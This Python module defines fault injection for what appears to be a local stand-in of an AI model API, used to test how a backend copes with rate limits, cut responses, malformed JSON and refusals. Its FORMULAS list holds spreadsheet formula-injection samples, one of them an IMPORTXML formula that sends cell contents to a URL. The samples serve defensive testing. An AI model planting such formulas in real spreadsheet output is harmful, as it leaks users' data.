"""The model's faults: which there are, and which of them meets a call.

Switched with `PUT /_standin/faults`, e.g. every tenth call answered 429 and one row poisoned:

  {"seed": 7, "rules": [{"fault": "cut_body", "when": ["Acme Poison Ltd"]},
                        {"fault": "rate_limited", "probability": 0.1, "retry_after_s": 2}]}

The first rule that applies decides. Chance comes from the seed, the rule, the prompt and how often that
prompt was asked before, so a run repeats whatever the order in which its calls arrive.
"""

from __future__ import annotations

import hashlib
from argparse import ArgumentTypeError
from collections.abc import Callable
from typing import Literal

from pydantic import BaseModel, ConfigDict, Field, ValidationError, model_validator

from backend.local.standin import FaultSwitches

#: Faults that answer with an error body, and cost nothing.
Answered = Literal[
    "rate_limited", "insufficient_quota", "invalid_api_key", "server_error", "overloaded", "html"
]
#: Faults of the way the answer takes; the model has worked and bills.
Carried = Literal["slow", "slow_headers", "slow_body", "cut", "cut_body"]
#: Faults of the answer itself.
Content = Literal[
    "refusal", "content_filter", "malformed_json", "truncated", "wrong_fields", "too_long", "empty", "formula"
]
Fault = Answered | Carried | Content

#: Texts that a spreadsheet would run or reject; a `formula` fault takes one of them by the prompt.
FORMULAS = (
    '=IMPORTXML("http://127.0.0.1/?leak="&A1,"//a")',
    "+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "x" * 60_000,
)


class Rule(BaseModel):
    """One fault and when it meets a call: exactly one of `next`, `probability`, `when`."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    fault: Fault
    next: int | None = Field(default=None, ge=1)  #: the next N calls that reach this rule
    probability: float | None = Field(default=None, ge=0, le=1)
    when: tuple[str, ...] = ()  #: any of these texts stands in the prompt
    times: int | None = Field(default=None, ge=1)  #: with `when`: only a prompt's first N calls
    retry_after_s: float | None = Field(
        default=None, ge=0
    )  #: `Retry-After` of `rate_limited` and `overloaded`
    delay_ms: int = Field(default=10_000, ge=0)  #: how long the slow ones take beyond the usual
    text: str | None = None  #: what `formula` writes instead of one of FORMULAS

    @model_validator(mode="after")
    def _one_condition(self) -> Rule:
        given = [self.next is not None, self.probability is not None, bool(self.when)]
        if sum(given) != 1:
            raise ValueError("give exactly one of next, probability, when")
        if self.times is not None and not self.when:
            raise ValueError("times goes with when")
        return self


def rule(text: str) -> Rule:
    """A rule from the command line, as JSON. Raises `ArgumentTypeError` with what is wrong."""
    try:
        return Rule.model_validate_json(text)
    except ValidationError as error:
        raise ArgumentTypeError(f"no rule: {error.errors()[0]['msg']}") from error


class ModelFaults(FaultSwitches):
    """The switches of the model; keys are compared whole."""

    rules: tuple[Rule, ...] = ()
    refused_keys: tuple[str, ...] = ()  #: answered 401 `invalid_api_key`
    keys_without_quota: tuple[str, ...] = ()  #: answered 429 `insufficient_quota`


def share(seed: int, salt: str, prompt: bytes, before: int) -> float:
    """A number in [0, 1) that depends on nothing but its arguments."""
    text = b"%d/%s/%d/" % (seed, salt.encode(), before)
    return int.from_bytes(hashlib.blake2b(text + prompt, digest_size=7).digest(), "big") / (1 << 56)


class Chooser:
    """Says which rule meets a call; counts what `next` has left."""

    def __init__(self, faults: ModelFaults) -> None:
        self.faults = faults
        self._left = [rule.next for rule in faults.rules]

    def rule_for(self, prompt: bytes, before: int, contains: Callable[[str], bool]) -> Rule | None:
        """`before`: how often this prompt was asked already; `contains` looks a text up in it."""
        for number, rule in enumerate(self.faults.rules):
            if self._applies(number, rule, prompt, before, contains):
                return rule
        return None

    def _applies(
        self, number: int, rule: Rule, prompt: bytes, before: int, contains: Callable[[str], bool]
    ) -> bool:
        left = self._left[number]
        if left is not None:
            self._left[number] = left - 1 if left else 0
            return left > 0
        if rule.probability is not None:
            return share(self.faults.seed, f"rule {number}", prompt, before) < rule.probability
        return (rule.times is None or before < rule.times) and any(map(contains, rule.when))
